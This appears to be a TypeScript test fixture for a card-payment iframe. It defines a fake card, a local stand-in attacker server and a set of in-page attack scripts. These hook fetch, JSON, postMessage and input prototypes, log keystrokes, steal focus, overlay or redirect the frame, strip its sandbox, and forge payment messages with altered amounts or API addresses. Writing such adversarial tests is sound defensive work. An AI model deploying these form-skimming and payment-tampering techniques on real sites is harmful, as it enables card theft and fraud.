import { listen } from '@consorcio/host/serving';
import { aCard, cardNumbers } from '../../pages/fixtures/cards';

// What a script of the page does, as a bad container would.

/** Nobody else in the conversation has these. */
export const attackedCard = aCard({
  ...{ numero: cardNumbers.approved, nome: 'ZULMIRA XISTO', codigo: '917', documento: '390.533.447-05' },
});
const secrets = /4242|zulmira|xisto|39053344705|122031/i;

/** Whether something of the card is in what an attack saw and heard. */
export function isLoot({ texts, heard }: Pick<Attacker, 'texts' | 'heard'>): boolean {
  return heard !== '' || secrets.test(texts.join(' ').replace(/[^\da-z]/gi, ''));
}

/** The attacker's own server, and each request that it got. */
export async function startEvilServer() {
  const taken: string[] = [];
  const server = await listen(({ method, url }, response) => {
    taken.push(`${method} ${url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('<p>');
  }, 0);
  return { url: `http://localhost:${server.port}`, taken, close: server.close };
}

/** What an attack has: everything it saw as text, and every key or text that it heard. `evil` is its own server. */
interface Attacker {
  readonly evil: string;
  readonly texts: string[];
  heard: string;
  take(...seen: readonly unknown[]): void;
  /** Calls `act` every `ms` while the form is open, until it returns true. */
  atForm(ms: number, act: (frame: HTMLIFrameElement) => unknown): void;
  /** Takes the keys of the visitor, in a field beside the frame. */
  trap(frame: HTMLIFrameElement): HTMLInputElement;
  proposal(): number;
  /** Calls `act` with each message between page and frame, before they get it. */
  tap(act: (message: Record<string, unknown>, send: (data: object) => void) => void): void;
}
declare global {
  interface Window {
    attacker: Attacker;
  }
}

/** Runs in the page before the attack, with the address of the attacker's own server. */
export function prepare(evil: string): void {
  const native = JSON.stringify;
  const text = (value: unknown) => {
    try {
      return typeof value === 'string' ? value : (native(value) ?? String(value));
    } catch {
      return '';
    }
  };
  const attacker: Attacker = {
    evil,
    texts: [],
    heard: '',
    take: (...seen) => void attacker.texts.push(...seen.map(text)),
    atForm(ms, act) {
      const timer = setInterval(() => {
        const frame = document.querySelector<HTMLIFrameElement>('dialog[open] iframe');
        if (frame && act(frame) === true) clearInterval(timer);
      }, ms);
    },
    trap(frame) {
      const { parentElement: parent } = frame;
      const field = parent?.querySelector('input') ?? document.createElement('input');
      if (!field.isConnected) parent?.append(field);
      attacker.heard += field.value;
      field.value = '';
      return field;
    },
    proposal: () => Number(/propostaID\\*":(\d+)/.exec(native({ ...sessionStorage }))?.[1]),
    tap(act) {
      window.addEventListener(
        'message',
        ({ data, source, origin }) => {
          attacker.take(data);
          act(data, (sent) => (source as Window).postMessage({ nonce: data.nonce, ...sent }, origin));
        },
        true,
      );
    },
  };
  window.attacker = attacker;
}

/** Each runs in the page alone, so it knows only `window.attacker`. */
export const attacks: Readonly<Record<string, () => void>> = {
  'replaces what sends': () => {
    const { take } = window.attacker;
    const { fetch, XMLHttpRequest } = window;
    window.fetch = (...call) => {
      take(call);
      return fetch(...call);
    };
    const send = XMLHttpRequest.prototype.send;
    XMLHttpRequest.prototype.send = function (body) {
      take(body);
      send.call(this, body);
    };
    navigator.sendBeacon = (...call) => take(call) === undefined;
  },
  'replaces JSON and structured clones': () => {
    const { take } = window.attacker;
    for (const name of ['parse', 'stringify'] as const) {
      const native = JSON[name] as (...given: unknown[]) => never;
      JSON[name] = (...given: unknown[]) => {
        take(...given);
        return native(...given);
      };
    }
  },
  'replaces postMessage and the data of messages': () => {
    const { take } = window.attacker;
    for (const { prototype } of [MessagePort, BroadcastChannel, Worker]) {
      const native = prototype.postMessage as (...given: unknown[]) => void;
      prototype.postMessage = function (...given: unknown[]) {
        take(...given);
        native.apply(this, given);
      };
    }
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')?.get;
    Object.defineProperty(MessageEvent.prototype, 'data', {
      get() {
        const value: unknown = data?.call(this);
        take(value);
        return value;
      },
    });
  },
  'replaces prototypes': () => {
    const { take } = window.attacker;
    const { includes } = String.prototype;
    const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
    Object.defineProperty(HTMLInputElement.prototype, 'value', {
      ...value,
      set(text) {
        take(text);
        value?.set?.call(this, text);
      },
    });
    const prototypes = [
      [String.prototype, ['replace', 'slice', 'split', 'trim', 'toUpperCase']],
      [Map.prototype, ['set']],
      [Set.prototype, ['add']],
      [RegExp.prototype, ['exec']],
    ] as const;
    for (const [prototype, names] of prototypes)
      for (const name of names) {
        const native = Reflect.get(prototype, name);
        Reflect.set(prototype, name, function (this: unknown, ...given: unknown[]) {
          if (includes.call(`${this}${given[0]}`, '4242')) take(`${this}${given[0]}`);
          return native.apply(this, given);
        });
      }
  },
  'replaces timers': () => {
    const { take } = window.attacker;
    for (const name of ['setTimeout', 'setInterval', 'requestAnimationFrame', 'queueMicrotask'] as const) {
      const native = window[name].bind(window) as (...given: unknown[]) => unknown;
      Reflect.set(window, name, (...given: unknown[]) => {
        take(String(given[0]), ...given.slice(1));
        return native(...given);
      });
    }
  },
  'listens to every event': () => {
    const types = ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'compositionend'];
    for (const type of types)
      window.addEventListener(
        type,
        (event) => {
          const { key, data, target } = event as KeyboardEvent & InputEvent;
          window.attacker.heard += `${key ?? ''}${data ?? ''}${(target as HTMLInputElement).value ?? ''}`;
        },
        true,
      );
  },
  'reads the frame': () => {
    const { take, atForm } = window.attacker;
    const reads: readonly ((element: HTMLIFrameElement) => unknown)[] = [
      (element) => element.contentDocument?.documentElement.outerHTML,
      (element) => element.contentWindow?.document.body.innerHTML,
      (element) => element.contentWindow?.location.href,
      (element) => element.contentWindow?.name,
      (element) => Reflect.get(element.contentWindow ?? {}, 'elements'),
      () => Reflect.get(window, '0').document.forms,
      () => window.getSelection()?.toString(),
      () => performance.getEntries().map(({ name }) => name),
    ];
    atForm(50, (frame) => {
      for (const read of reads)
        try {
          take(read(frame));
        } catch {
          // refused
        }
    });
  },
  'takes the focus': () => {
    const { atForm, trap } = window.attacker;
    atForm(40, (frame) => trap(frame).focus());
  },
  'takes the focus once a key was pressed, and gives it back': () => {
    const { atForm, trap } = window.attacker;
    let turn = 0;
    atForm(25, (frame) => {
      const field = trap(frame);
      turn += 1;
      (turn % 2 === 0 ? field : frame).focus();
    });
  },
  'moves and covers the frame': () => {
    const cover = document.createElement('div');
    Object.assign(cover.style, { position: 'fixed', inset: '0', opacity: '0.01', zIndex: '9' });
    cover.addEventListener('keydown', ({ key }) => {
      window.attacker.heard += key;
    });
    cover.contentEditable = 'true';
    window.attacker.atForm(300, (frame) => {
      frame.style.transform = 'scale(0.98)';
      if (!cover.isConnected) frame.parentElement?.append(cover);
    });
  },
  'puts the frame into another place': () => {
    window.attacker.atForm(700, (frame) => {
      const { parentElement } = frame;
      document.body.append(frame);
      parentElement?.append(frame);
      return true;
    });
  },
  'leads the frame to its own page': () => {
    const { atForm, evil } = window.attacker;
    atForm(700, (frame) => {
      frame.src = `${evil}/card.html`;
      frame.contentWindow?.location.replace(`${evil}/card.html`);
      return true;
    });
  },
  'writes its own page into the frame': () => {
    window.attacker.atForm(700, (frame) => {
      try {
        frame.srcdoc = '<input onkeydown="parent.attacker.heard+=event.key">';
      } catch {
        // refused
      }
    });
  },
  'takes the sandbox off the frame': () => {
    setInterval(() => document.querySelector('dialog iframe')?.removeAttribute('sandbox'), 20);
  },
  'opens a second frame, and speaks to it in our place': () => {
    const { atForm, evil, take } = window.attacker;
    atForm(500, (frame) => {
      const second = document.createElement('iframe');
      second.src = frame.src;
      window.addEventListener('message', ({ source, data: { nonce, ...data }, origin }) => {
        if (source !== second.contentWindow) return;
        take(data);
        const api = { baseUrl: evil, apiKey: 'k', timeoutMs: 9000 };
        second.contentWindow?.postMessage({ type: 'show', nonce, isOpen: true }, origin);
        second.contentWindow?.postMessage({ type: 'pay', nonce, propostaId: 666, api }, origin);
      });
      frame.parentElement?.append(second);
      return true;
    });
  },
  'answers in the place of the frame': () => {
    window.attacker.tap(({ type, nonce }) => {
      if (type !== 'busy') return;
      const { contentWindow: source = null, src = '' } =
        document.querySelector<HTMLIFrameElement>('dialog iframe') ?? {};
      const data = { type: 'refused', status: 402, nonce };
      window.dispatchEvent(new MessageEvent('message', { data, origin: new URL(src).origin, source }));
    });
  },
  'sends the payment again and again': () => {
    const api = { baseUrl: location.origin, apiKey: 'k', timeoutMs: 9000 };
    const { tap, proposal } = window.attacker;
    tap((_message, send) => {
      for (const propostaId of [666, proposal()])
        for (let time = 0; time < 5; time += 1) send({ type: 'pay', propostaId, api, idempotencyKey: `k${time}` });
    });
  },
  'sends another amount': () => {
    const charge = { propostaID: 666, valorInCents: 1, valor: 'R$ 0,01' };
    const tema = { background: '#ffffff', primaryBackground: '#000000', primaryForeground: '#ffffff' };
    const shown = { isOpen: true, emAberto: false, processadora: '', isLocked: false, canClose: true };
    window.attacker.tap((_message, send) => send({ type: 'show', charge, theme: { tema, corners: 'soft' }, ...shown }));
  },
  'sends the address of another API': () => {
    const api = { baseUrl: window.attacker.evil, apiKey: 'k', timeoutMs: 9000 };
    const { tap, proposal } = window.attacker;
    tap(({ type }, send) => type === 'busy' && send({ type: 'pay', propostaId: proposal(), api }));
  },
};
